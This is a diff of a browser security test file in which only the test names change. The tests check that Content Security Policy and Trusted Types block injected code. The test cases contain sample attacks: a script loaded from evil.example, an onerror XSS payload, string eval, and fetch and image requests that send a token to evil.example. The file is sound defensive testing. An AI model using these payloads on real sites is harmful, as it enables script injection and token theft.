@@ -50,7 +50,7 @@ test.describe('the page', () => {
       },
       breach: 'require-trusted-types-for',
     },
-    'a script from elsewhere': {
+    'a script from another site': {
       attempt: () => {
         const script = document.createElement('script')
         script.src = 'https://evil.example/steal.js'
@@ -58,26 +58,26 @@ test.describe('the page', () => {
       },
       breach: 'require-trusted-types-for',
     },
-    'markup with a handler': {
+    'markup with an event handler': {
       attempt: () => {
         document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="document.title = \'stolen\'">')
       },
       breach: 'require-trusted-types-for',
     },
-    'text as a program': {
+    'text run as code': {
       attempt: () => {
         // oxlint-disable-next-line typescript/no-implied-eval -- the test checks that it does not run
         setTimeout('document.title = "stolen"')
       },
       breach: 'require-trusted-types-for',
     },
-    'a request to elsewhere': {
+    'a request to another site': {
       attempt: () => {
         void fetch('https://evil.example/?token=x').catch(() => null)
       },
       breach: 'connect-src',
     },
-    'a picture from elsewhere': {
+    'a picture from another site': {
       attempt: () => {
         new Image().src = 'https://evil.example/token.gif'
       },
@@ -152,7 +152,7 @@ test.describe('browser storage', () => {
       await page.getByRole('banner').getByRole('button').last().click()
       await page.getByRole('dialog').getByRole('button', { name: 'Logout' }).click()
     },
-    'a token that is over': async (page, token, url) => {
+    'a revoked token': async (page, token, url) => {
       await fetch(`${url}/common/logout/`, { method: 'POST', headers: { authorization: `Bearer ${token}` } })
       await page.getByRole('link', { name: 'MY EVENTS' }).click()
     },
